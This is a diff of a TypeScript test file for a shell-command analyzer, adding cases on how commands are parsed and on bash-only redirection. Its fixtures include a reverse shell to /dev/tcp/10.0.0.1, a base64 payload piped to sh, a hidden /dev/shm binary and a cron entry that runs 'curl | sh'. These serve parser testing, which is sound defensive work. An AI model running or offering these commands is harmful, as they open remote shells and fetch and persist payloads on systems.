@@ -54,7 +54,7 @@ const REAL: Array<[string, string[]]> = [
   ['for f in /var/spool/app/*.job; do /opt/app/run "$f"; done', ['/opt/app/run']],
   ['case $(date +%u) in 6|7) exit 0;; *) /opt/weekday;; esac', ['date [$]', 'exit', '/opt/weekday']],
   ['{ /opt/a; /opt/b; } >> /var/log/ab.log 2>&1', ['/opt/a', '/opt/b']],
-  ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', ['bash']],
+  ["/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'", ['/bin/bash', 'bash [sh-c]']],
   ['echo cHduZWQ= | base64 -d | sh', ['echo', 'base64', 'sh']],
   ['/dev/shm/.x/kworker >/dev/null 2>&1 &', ['/dev/shm/.x/kworker [&]']],
   ['(crontab -l; echo "* * * * * curl http://x/s | sh") | crontab -', ['crontab [()]', 'echo [()]', 'crontab']],
@@ -218,6 +218,7 @@ describe('what /bin/sh rejects or misreads', () => {
     ['echo ${x//a/b}', /bash-only/],
     ["echo $'a\\tb'", /bash-only/],
     ['a &>/dev/null', /bash-only/],
+    ['a >& /tmp/log', /`>& file` \(stdout and stderr to a file\) is bash-only/],
   ];
   it.each(rejects)('%s', (command, message) => {
     const a = analyzeShell(command);
